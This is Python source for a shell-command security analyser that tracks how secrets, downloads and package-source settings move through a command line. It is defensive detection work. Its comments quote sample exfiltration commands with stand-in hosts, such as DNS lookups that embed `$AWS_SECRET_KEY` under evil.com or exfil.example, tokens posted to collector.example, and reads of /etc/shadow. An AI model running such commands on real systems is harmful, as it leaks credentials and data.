    hosts = [e.target for e in effects if e.action in _NETWORK and not _stays_here(e.target)]
    found: list[Effect] = []
    for word in command.args:
        if type(word) is str or "$" not in word:
            continue
        if word in presented:
            # A vendor's token presented to a host that is not the vendor's
            # (`-H "X-Token: $NPM_TOKEN" https://collector.example`) is sent, not used.
            for name in _SECRET_VARIABLE.findall(word):
                vendor = _vendor_of(name)
                leaks = [h for h in hosts if vendor and not _issued_by(name, h)]
                if leaks:
                    found.append(
                        Effect(Action.SEND, leaks[0], data=(ENVIRONMENT,),
                               flags=frozenset({"secret_variable", "presented"}),
                               program=command.program)
                    )  # fmt: skip
            continue
        if word[:1] != "-" and ":" in word.split("$", 1)[0] and "://" not in word:
            continue  # httpie's `Header:$TOKEN`
        for name in _SECRET_VARIABLE.findall(word):
            leaks = [h for h in hosts if not _issued_by(name, h)]
            if leaks:
                flags = frozenset({"secret_variable"})
                found.append(
                    Effect(Action.SEND, leaks[0], data=(ENVIRONMENT,), flags=flags,
                           program=command.program)
                )  # fmt: skip
    return found


def _stays_here(target: str) -> bool:
    """A loopback destination; a name that is not one (even one spelt with a variable,
    `dig $TOKEN.x.example`) leaves the machine."""
    host = host_of(target) or target
    return bool(host) and is_loopback(host)


_STDIN_PRESENTS = frozenset(
    {"--password-stdin", "--with-token", "--token-stdin", "--stdin-token", "--secret-stdin"}
)  # docker login --password-stdin, gh auth login --with-token: a credential used as such
_LOOKUPS = frozenset({"dig", "nslookup", "host", "drill", "ping", "ping6", "getent", "delv"})


def _printed_secrets(
    command: SimpleCommand,
    parsed: ParsedCommand | None,
    program: str,
    args: tuple[str, ...],
    found: Sequence[Effect],
    input_sources: tuple[str, ...],
    flow: _Flow,
) -> tuple[str, ...]:
    """The secret markers a command's output carries: what it prints itself (the catalogue's
    `prints_secrets`, `printenv KEY`, `echo $TOKEN`, an instance-metadata answer) and the
    secrets it was fed (a filter does not make a secret harmless)."""
    markers = [item for item in input_sources if is_secret_data(item)]
    if parsed is not None:
        spec = parsed.spec
        if spec.prints_secrets and prints_secrets(
            spec.prints_secrets, parsed.named, " ".join((program, *args))
        ):
            markers.append(secret_data(spec.name))
        if spec.output in ("literal", "printf"):
            markers.extend(secret_data("$" + name) for name in secret_variables(command.args))
    markers.extend(secret_data("$" + name) for name in printed_variables(program, args))
    if any(e.action is Action.FETCH and is_metadata_host(e.target) for e in found):
        markers.append(secret_data("the instance metadata service"))
    if command.program == "read" and flow.secrets and command.input_from is None:
        # `... | while read -r c; do ...`: the loop reads what the line printed last.
        for name in command.positionals:
            if type(name) is str and name.isidentifier():
                flow.secret_variables[name] = flow.secrets
    return tuple(dict.fromkeys(markers))


def _secret_sends(
    command: SimpleCommand,
    parsed: ParsedCommand,
    found: list[Effect],
    input_sources: tuple[str, ...],
    flow: _Flow,
    catalogue: Catalogue,
) -> list[Effect]:
    """Where a secret printed in the line leaves the machine: in a URL, a body, a DNS name
    built from it, piped into a socket. A credential presented as such (an auth header,
    `--password-stdin`) to the service it talks to is its use, not a leak."""
    fed = tuple(item for item in input_sources if is_secret_data(item))
    presented = presented_words(parsed.options)
    dynamic = [w for w in command.args if type(w) is not str or "$(" in w or "`" in w]
    through_words = carried_by_words(command.args, presented)
    carried: list[str] = []
    if fed and ((dynamic and not through_words) or not _STDIN_PRESENTS.isdisjoint(parsed.options)):
        # The secret reaches the command only where it is presented: its use.
        found = [_without_secrets(e) if e.action is Action.SEND else e for e in found]
    elif fed and through_words:
        carried.extend(fed)  # in a URL, a body or a field, not just a header
    elif fed and not any(e.action is Action.SEND and set(fed) & set(e.data) for e in found):
        # `... | socat - TCP:h:443`, `| openssl s_client`: a raw connection sends its input.
        connections = [
            e.target for e in found if e.action is Action.CONNECT and e.target not in (STDIN, "")
        ]
        found.extend(
            Effect(Action.SEND, host, data=fed, flags=_SECRET_IN_REQUEST, program=command.program)
            for host in connections
        )
    zones: list[str] = []
    for word in dynamic:
        if word in presented:
            continue
        markers = list(_substituted_secrets(word, catalogue, flow))
        if command.via == "xargs" and _XARGS_INPUT in word:
            markers.extend(fed)  # `... | xargs -I{} nslookup {}.zone`: the input is in the name
        for name, tainted in flow.secret_variables.items():
            if "$" + name in word or "${" + name in word:
                markers.extend(tainted)
        if markers:
            carried.extend(markers)
            zone = _static_zone(word) if command.program in _LOOKUPS else ""
            if zone:
                zones.append(zone)
    if not carried:
        return found
    data = tuple(dict.fromkeys(carried))
    hosts = zones or [
        e.target for e in found if e.action in _NETWORK and "$" not in e.target and e.target
    ]
    for host in dict.fromkeys(hosts):
        found.append(
            Effect(Action.SEND, host, data=data, flags=_SECRET_IN_REQUEST, program=command.program)
        )
    return found


_MAX_SUBSTITUTIONS = 8
_MAX_SUBSTITUTION_TEXT = 4096


def _substituted_secrets(word: str, catalogue: Catalogue, flow: _Flow) -> tuple[str, ...]:
    """Secrets printed by the commands inside a word's `$(...)` or backticks (the walk links
    only a word's first substitution to the command)."""
    markers: list[str] = []
    for inner in _substitutions(word):
        for nested in shell_analyse(inner).commands:
            markers.extend(
                m for m in _output_with_secrets(nested, catalogue, flow)[1] if is_secret_data(m)
            )
    return tuple(dict.fromkeys(markers))


def _substitutions(word: str) -> list[str]:
    """The texts of `$(...)` (balanced) and backtick substitutions in a word, bounded."""
    found: list[str] = []
    index = 0
    text = word[:_MAX_SUBSTITUTION_TEXT]
    while len(found) < _MAX_SUBSTITUTIONS:
        dollar = text.find("$(", index)
        tick = text.find("`", index)
        if dollar < 0 and tick < 0:
            break
        if tick < 0 or (0 <= dollar < tick):
            depth, end = 0, dollar + 1
            while end < len(text):
                if text[end] == "(":
                    depth += 1
                elif text[end] == ")":
                    depth -= 1
                    if depth == 0:
                        break
                end += 1
            found.append(text[dollar + 2 : end])
            index = end + 1
        else:
            close = text.find("`", tick + 1)
            if close < 0:
                break
            found.append(text[tick + 1 : close])
            index = close + 1
    return found


def _without_secrets(effect: Effect) -> Effect:
    kept = tuple(item for item in effect.data if not is_secret_data(item))
    return effect if len(kept) == len(effect.data) else effect._replace(data=kept)


def _static_zone(word: str) -> str:
    """`$c.q.exfil.example` is looked up in the zone q.exfil.example: what it sends goes there."""
    match = _ZONE.search(word)
    return match.group(1).strip(".").lower() if match else ""


# The static domain after the last run-time part of a name: `${c}.q.exfil.example`.
_ZONE = re2.compile(r"(?:\$\{?[A-Za-z0-9_]+\}?|\$\([^)]*\)|`[^`]*`)((?:\.[A-Za-z0-9-]+)+)\.?$")


_SECRET_IN_REQUEST = frozenset({"secret_in_request"})


def _substitutes(args: tuple[str, ...]) -> bool:
    return any(type(w) is not str and ("$(" in w or "`" in w) for w in args)


_ENVIRONMENT_TARGET = "(environment)"
_SETTINGS = frozenset({PACKAGE_SOURCE, "config"})
_RISKY_SOURCES = frozenset({UNTRUSTED, INSECURE})
_IMAGE_RETAG = frozenset({"official_image_shadowed"})


def _source_settings(command: SimpleCommand, catalogue: Catalogue) -> list[Effect]:
    """Package sources chosen by variables (`export PIP_INDEX_URL=...`, `GOFLAGS=-insecure go
    get ...`, `GIT_SSL_NO_VERIFY=1 git clone`) or by git's `-c` settings for one command."""
    words = command.args if command.program in _BOOKKEEPING else command.environment
    found: list[Effect] = []
    for word in words:
        name, equals, value = word.partition("=")
        if not equals or not is_source_variable(name):
            continue
        judged = variable_findings(name, value, catalogue.trusted_index)
        flags = judged.flags(known=False)
        if flags & _RISKY_SOURCES:
            found.append(
                Effect(Action.WRITE, _ENVIRONMENT_TARGET, flags=flags | _SETTINGS,
                       program=command.program, data=judged.untrusted + judged.insecure)
            )  # fmt: skip
    shadowed = shadowed_official(command.program, command.positionals)
    if shadowed is not None:  # docker tag x/library-mirror/node:20 node:20
        found.append(
            Effect(Action.WRITE, f"image {shadowed[1]}", flags=_IMAGE_RETAG,
                   program=command.program, data=(shadowed[0],))
        )  # fmt: skip
    if command.program == "git" and "-c" in command.args:
        settings = [
            command.args[i + 1].replace("=", " ", 1)
            for i, word in enumerate(command.args[:-1])
            if word == "-c" and type(command.args[i + 1]) is str
        ]
        judged = findings("~/.gitconfig", "\n".join(settings), catalogue.trusted_index)
        flags = judged.flags(known=False)
        if flags & _RISKY_SOURCES:
            found.append(
                Effect(Action.WRITE, "(git -c)", flags=flags | _SETTINGS, program="git",
                       data=judged.untrusted + judged.insecure)
            )  # fmt: skip
    return found


def _package_edits(
    command: SimpleCommand, found: list[Effect], catalogue: Catalogue
) -> list[Effect]:
    """A package configuration, lockfile or manifest changed by a command whose result is
    not known (`sed -i`, `cp`, `curl -o`): the hosts its words name may be its new sources."""
    result = found
    for index, effect in enumerate(found):
        if (
            effect.action is not Action.WRITE
            or effect.content
            or PACKAGE_SOURCE in effect.flags
            or not (kind_of(effect.target) or "config" in effect.flags)
        ):
            continue
        words = [w for w in command.args if type(w) is str]
        if "config" in effect.flags:  # a settings command: its words are the whole change
            flags = command_findings(effect.target, words, catalogue.trusted_index).flags()
            if names_url_secret(str(w) for w in command.args):
                flags = (flags - {BENIGN}) | {STORES_CREDENTIAL}
        else:  # `echo ... | tee -a pip.conf`, `tee f <<< ...`: what is fed in is written
            fed = _fed_text(command)
            flags = merged(
                findings(effect.target, fed, catalogue.trusted_index),
                word_findings(words + fed.split(), catalogue.trusted_index),
            ).flags(known=False)
        if result is found:
            result = list(found)
        result[index] = effect._replace(flags=effect.flags | flags | {PACKAGE_SOURCE})
    return result


def _fed_text(command: SimpleCommand) -> str:
    """The here-document or here-string fed to a command, and the words of the commands
    piped into it (`printf 'a\\nb' | tee f`), as text."""
    parts = [command.stdin_text] if command.stdin_text else []
    source, depth = command.input_from, 0
    while source is not None and depth < 4:
        parts.extend(w for w in source.args if type(w) is str and not w.startswith("-"))
        source, depth = source.input_from, depth + 1
    return "\n".join(parts).replace("\\n", "\n")[:65536]


def _trusted_indexes(
    found: list[Effect], parsed: ParsedCommand, catalogue: Catalogue
) -> list[Effect]:
    """`pip install torch --index-url https://download.pytorch.org/...`: an index the policy
    trusts is not a custom one."""
    spellings = [s for s, flag in parsed.spec.flag_names.items() if flag == "custom_index"]
    values = [v for s in spellings for v in parsed.options.get(s, ())]
    hosts = [host_of(v) for v in values]
    if not values or not all(h and catalogue.trusted_index(h) for h in hosts):
        return found
    return [
        e._replace(flags=e.flags - {"custom_index"}) if "custom_index" in e.flags else e
        for e in found
    ]


def _issued_by(variable: str, host: str) -> bool:
    """GITHUB_TOKEN to api.github.com, OPENAI_API_KEY to api.openai.com: the issuer itself."""
    vendor = variable.lower().split("_")[0]
    vendor = _VENDOR_SHORT_NAMES.get(vendor, vendor)
    # The host's own name, not the variable spelt in it (`dig $AWS_SECRET_KEY.evil.com`).
    named = _VARIABLE_REFERENCE.sub("", host).lower()
    return len(vendor) >= 3 and vendor in named


# First words of secret names that say nothing about who issued the secret.
_GENERIC_SECRET_WORDS = frozenset(
    {"api", "auth", "access", "secret", "secrets", "token", "db", "database", "my", "app",
     "service", "client", "bearer", "session", "private", "jwt", "user", "admin", "basic",
     "prod", "production", "dev", "staging", "test", "local", "internal", "ci", "deploy",
     "bot", "webhook", "password", "passwd", "pass", "pg", "mysql", "redis", "postgres",
     "mongo", "smtp", "mail", "ldap", "oauth", "refresh", "id", "personal", "read", "write",
     "registry", "repo", "git", "ssh", "server", "backend", "frontend", "web", "key"}
)  # fmt: skip
# Names whose issuer's hosts are spelt differently (ARTIFACTORY_TOKEN to acme.jfrog.io).
_VENDOR_SHORT_NAMES = {
    "gh": "github", "hf": "huggingface", "aws": "amazonaws", "gcp": "google",
    "gcloud": "google", "artifactory": "jfrog", "jira": "atlassian", "confluence": "atlassian",
    "firebase": "google", "dockerhub": "docker", "azure": "azure", "tf": "terraform",
}  # fmt: skip


def _vendor_of(variable: str) -> str:
    """NPM_TOKEN -> "npm", STRIPE_SECRET_KEY -> "stripe"; "" for API_TOKEN, DB_PASSWORD."""
    first = variable.lower().split("_")[0]
    first = _VENDOR_SHORT_NAMES.get(first, first)
    if len(first) < 3 or first in _GENERIC_SECRET_WORDS or "_" not in variable:
        return ""
    return first


def _output_of(
    command: SimpleCommand, catalogue: Catalogue, flow: _Flow, depth: int = 0
) -> tuple[Origin, tuple[str, ...], str]:
    """What a command prints, for a producer the line has not been through yet (the command
    inside `<(...)` or `$(...)` is seen by its consumer first)."""
    if depth > 8:
        return Origin.UNKNOWN, (), ""
    program, args = _module_as_program(command)
    parsed = catalogue.parse(program, args)
    if parsed is None:
        return Origin.UNKNOWN, (), ""
    spec = parsed.spec
    feed: tuple[Origin, tuple[str, ...], str] = (Origin.NONE, (), "")
    if command.input_from is not None:
        feed = _output_of(command.input_from, catalogue, flow, depth + 1)
    reads = tuple(
        e.target for e in effects_of(parsed, program, args, feed[0]) if e.action is Action.READ
    )
    if spec.decodes_when and not spec.decodes_when.isdisjoint(parsed.named):
        return Origin.DECODED, reads + feed[1], ""
    if spec.output == "network":
        return Origin.NETWORK, (), ""
    if spec.output == "decoded":
        return Origin.DECODED, reads + feed[1], ""
    if spec.output in ("literal", "printf"):
        return Origin.LITERAL, (), printed_text(command.program, command.args)
    if spec.output == "input":
        return feed
    if spec.output == "files":
        origin = _strongest([_file_origin(p, flow) for p in reads] + [feed[0]])
        return origin, reads + feed[1], ""
    if spec.output == "repository":  # `git diff | curl -T - URL` sends the project's code
        return Origin.FILE, (".",), ""
    if command.program in _ENV_PRINTERS and not command.positionals:
        return Origin.UNKNOWN, (ENVIRONMENT,), ""
    return Origin.UNKNOWN, (), ""


def _output_with_secrets(
    command: SimpleCommand, catalogue: Catalogue, flow: _Flow, depth: int = 0
) -> tuple[Origin, tuple[str, ...], str]:
    """What a producer the line has not been through prints, with the secrets in it."""
    if depth > 8:
        return Origin.UNKNOWN, (), ""
    origin, sources, text = _output_of(command, catalogue, flow, depth)
    program, args = _module_as_program(command)
    parsed = catalogue.parse(program, args)
    fed: tuple[str, ...] = ()
    if command.input_from is not None:
        fed = _output_with_secrets(command.input_from, catalogue, flow, depth + 1)[1]
    effects = effects_of(parsed, program, args, Origin.NONE) if parsed is not None else []
    secrets = _printed_secrets(command, parsed, program, args, effects, fed, _Flow())
    if secrets:
        sources = tuple(dict.fromkeys((*sources, *secrets)))
    return origin, sources, text


def _input_of(
    command: SimpleCommand, catalogue: Catalogue, flow: _Flow
) -> tuple[Origin, tuple[str, ...], str]:
    source = command.input_from
    if source is not None:
        known = flow.outputs.get(id(source))
        if known is None:
            known = _output_with_secrets(source, catalogue, flow)
        origin, sources, text = known
        # What an arbitrary program prints is not known in advance.
        return (origin if origin is not Origin.NONE else Origin.UNKNOWN), sources, text
    if command.stdin_text is not None:
        return Origin.LITERAL, (), command.stdin_text
    for redirect in command.redirects:
        if redirect.operator == "<":
            path = normalise(redirect.target)
            if path in _EMPTY_INPUTS:
                return Origin.LITERAL, (), ""  # `s_client </dev/null`: nothing is fed
            return _file_origin(path, flow), (path,), flow.contents.get(path, "")
    return Origin.NONE, (), ""


_EMPTY_INPUTS = frozenset({"/dev/null", "/dev/zero"})
# Named flags by which an interpreter gets its code elsewhere than standard input.
_STDIN_OFF = frozenset({"command", "module", "file"})
_TREE_FLAGS = frozenset({"unpack", "directory"})
_RUNS = frozenset({Action.EXECUTE, Action.PERSIST, Action.INSTALL})
_UNRESOLVED = frozenset({"unresolved"})


def _with_flow(
    effect: Effect,
    flow: _Flow,
    input_origin: Origin,
    input_sources: tuple[str, ...],
    input_text: str = "",
) -> Effect:
    """Resolve an effect's origin and data against what the line produced before it."""
    action = effect.action
    if action is Action.EXECUTE and "://" in effect.target:
        return effect._replace(origin=Origin.NETWORK)  # deno run https://..., node URL
    if effect.target == STDIN and action in _RUNS and effect.origin is Origin.NONE:
        fed = input_origin if input_origin is not Origin.NONE else Origin.UNKNOWN
        flags = effect.flags - _UNRESOLVED
        return effect._replace(
            origin=fed, data=input_sources, flags=flags, content=input_text or effect.content
        )
    if (
        (action in _RUNS or (action is Action.CHMOD and "exec" in effect.flags))
        and effect.target not in (STDIN, UNRESOLVED)
        and "project" not in effect.flags  # building a checkout is not running a download
    ):
        # An install names its file as written (`pip install ./x.whl`); files are kept by
        # their normal path.
        target = normalise(effect.target) if action is Action.INSTALL else effect.target
        produced = _file_origin(target, flow)
        if produced is not Origin.FILE and produced is not Origin.NONE:
            content = flow.contents.get(target, effect.content)
            return effect._replace(origin=_strongest([produced, effect.origin]), content=content)
        if (
            action is Action.EXECUTE
            and in_shared_temp(target)
            and (
                effect.program != target.rpartition("/")[2]
                or target.endswith((".sh", ".bash", ".zsh"))
                or script_language(target)
            )
            and not target.endswith("/bin/activate")  # a virtualenv's, made by venv
            and not any(target == w or target.startswith(w + "/") for w in flow.written)
        ):
            # a script an interpreter runs; a program built to /tmp and run is another thing
            return effect._replace(flags=effect.flags | UNSEEN_FILE)
    if action is Action.SEND and (effect.data or input_sources):
        data: list[str] = []
        for item in effect.data or (STDIN,):
            if item == STDIN:
                data.extend(input_sources or ())
            elif item == UNRESOLVED and input_sources:
                # `curl -d "$(id)"`: the run-time word is what the substitution printed
                data.extend((item, *input_sources))
            else:
                data.append(item)
                data.extend(flow.carried.get(item, ()))
        return effect._replace(data=tuple(dict.fromkeys(data)))
    return effect


def _redirect_effects(
    command: SimpleCommand,
    origin: Origin,
    sources: tuple[str, ...],
    text: str,
    flow: _Flow,
) -> list[Effect]:
    found: list[Effect] = []
    for redirect in command.redirects:
        operator, target = redirect.operator, redirect.target
        if target in _HARMLESS_TARGETS or target.startswith("&"):
            continue
        if operator in _DUPLICATES and target.isdigit():
            continue  # `2>&1`, `>&2`, `1<&0`: one descriptor made a copy of another, no file
        host = (
            host_of(target)
            if target.startswith("/dev/tcp/") or target.startswith("/dev/udp/")
            else ""
        )
        if host:
            port = target.split("/")[4] if target.count("/") >= 4 else ""
            reached = f"{host}:{port}" if port.isdigit() else host  # the port says whose
            found.append(Effect(Action.CONNECT, reached, program=command.program))
            if ">" in operator:
                found.append(Effect(Action.SEND, host, data=sources, program=command.program))
            continue
        path = normalise(target) if type(target) is str else UNRESOLVED
        if ">" in operator:
            flags = frozenset({"append"}) if ">>" in operator else frozenset({"truncate"})
            if path == UNRESOLVED:
                flags |= {"unresolved"}
            found.append(Effect(Action.WRITE, path, origin, sources, flags, command.program, text))
        elif operator == "<":
            # `bash < x.sh`, `mysql -h prod < cleanup.sql`: what the program reads on stdin
            # (the session flow runs a file written earlier when the program runs its input).
            found.append(Effect(Action.READ, path, flags=_STDIN_FILE, program=command.program))
    return found


def _remember(
    effects: Sequence[Effect],
    flow: _Flow,
    output_origin: Origin,
    output_sources: tuple[str, ...],
    input_origin: Origin = Origin.NONE,
) -> None:
    reads = tuple(e.target for e in effects if e.action is Action.READ)
    for effect in effects:
        if effect.action is Action.WRITE and effect.target != UNRESOLVED:
            if len(flow.written) < _MAX_WRITTEN:
                flow.written.add(effect.target)
            origin = effect.origin if effect.origin is not Origin.NONE else output_origin
            if origin is not Origin.NONE:
                flow.origins[effect.target] = origin
            if effect.content:
                flow.contents[effect.target] = effect.content
            carried = effect.data or reads or output_sources
            if carried:
                flow.carried[effect.target] = tuple(carried)
        if (
            effect.action is Action.WRITE
            and effect.flags & _TREE_FLAGS
            and effect.target not in (UNRESOLVED, STDIN, "")
        ):
            tree_origin = effect.origin
            if tree_origin is Origin.NONE and "unpack" in effect.flags:
                # tar x -C dir: the archive read by the same command, or what feeds it.
                archive = next(
                    (flow.origins.get(e.target) for e in effects if e.action is Action.READ), None
                )
                tree_origin = archive or input_origin
            if tree_origin in HIDDEN_ORIGINS:
                flow.trees[effect.target] = tree_origin
        if effect.action is Action.READ and (
            effect.program in _UNPACKERS or "archive" in effect.flags
        ):
            archive = flow.origins.get(effect.target)
            if archive is Origin.NETWORK or archive is Origin.DECODED:
                flow.unpacked = archive


_MAX_WRITTEN = 512
_ROOT_WRAPPERS = frozenset({"sudo", "doas", "pkexec", "run0", "su"})
_AS_ROOT = frozenset({"as_root"})
_STDIN_FILE = frozenset({"stdin_file"})


_INSTALLERS_OF_FILES = frozenset({"cp", "ln", "install"})
_HOOK_TARGET = re2.compile(r"(^|/)\.git/hooks/[^/]+$")
_PROJECT_HOOK = frozenset({"project_hook"})


def _project_hook(effect: Effect, flow: _Flow) -> Effect:
    """`ln -sf ../../scripts/git-hooks/pre-push .git/hooks/pre-push`: a hook the project
    keeps in its own tree, installed as `git config core.hooksPath` would; flagged so the
    rule for unseen hook code leaves it (a download this line made stays unseen code)."""
    if (
        effect.action is not Action.WRITE
        or not effect.data
        or not _HOOK_TARGET.search(effect.target)
    ):
        return effect
    folder = effect.target.rsplit("/", 1)[0] if "symbolic" in effect.flags else ""
    for source in effect.data:
        path = normalise(folder + "/" + source) if folder else normalise(source)
        if (
            _dynamic_text(source)
            or path.startswith(("/", "~", "..", "?", "("))
            or "/.git/" in "/" + path
            or _file_origin(path, flow) is not Origin.FILE
            or path in flow.origins
        ):
            return effect
    return effect._replace(flags=effect.flags | _PROJECT_HOOK)


_WHOLLY_DYNAMIC = re2.compile(r"^(\$\{?[A-Za-z_][A-Za-z0-9_]*\}?|\$\(.*\)|`.*`)$", re2.Options())


def _loaded_from_line(effect: Effect, flow: _Flow) -> Effect:
    """Code that runs a file (`exec(open(p).read())`, `pickle.load(open(p, 'rb'))`) runs
    what the line put there: a download saved there earlier is code from the network."""
    if effect.action is not Action.EXECUTE or effect.origin is not Origin.FILE:
        return effect
    origin = _file_origin(effect.target, flow)
    return effect._replace(origin=origin) if origin in HIDDEN_ORIGINS else effect


def _dynamic_text(word: str) -> bool:
    return type(word) is not str or "$" in word or "`" in word


def _file_origin(path: str, flow: _Flow) -> Origin:
    origin = flow.origins.get(path)
    if origin is not None:
        return origin
    for tree, tree_origin in flow.trees.items():
        if path == tree or path.startswith(tree.rstrip("/") + "/"):
            return tree_origin  # git clone URL dir && bash dir/install.sh
    if flow.unpacked is not Origin.NONE and not path.startswith(("/", "~")):
        return flow.unpacked  # ./install.sh after unpacking a download
    return Origin.FILE


_OPERAND_OF_UNKNOWN = frozenset({"operand_of_unknown"})
_MAX_OPERAND_READS = 16


def _operand_reads(command: SimpleCommand) -> list[Effect]:
    """A program the catalogue does not know may read any path it is given: its absolute
    and home paths are possible reads (`unshadow /etc/passwd /etc/shadow`, `john ~/.ssh/x`),
    judged by their class (a key store is denied, a workspace file is nothing)."""
    found: list[Effect] = []
    for word in command.positionals[:_MAX_OPERAND_READS]:
        if type(word) is not str or not word.startswith(("/", "~")) or word in ("/", "~"):
            continue
        found.append(
            Effect(Action.READ, normalise(word), flags=_OPERAND_OF_UNKNOWN, program=command.program)
        )
    return found


def _content_flag(path: str, flow: _Flow) -> frozenset[str]:
    return frozenset({"written_here"}) if path in flow.origins else frozenset()


_ORIGIN_STRENGTH = {
    Origin.NETWORK: 5,
    Origin.DECODED: 4,
    Origin.UNKNOWN: 3,
    Origin.LITERAL: 2,
    Origin.FILE: 1,
    Origin.NONE: 0,
}


def _strongest(origins: Iterable[Origin]) -> Origin:
    """The most worrying origin among several (network beats decoded beats unknown ...)."""
    best = Origin.NONE
    for origin in origins:
        if _ORIGIN_STRENGTH[origin] > _ORIGIN_STRENGTH[best]:
            best = origin
    return best
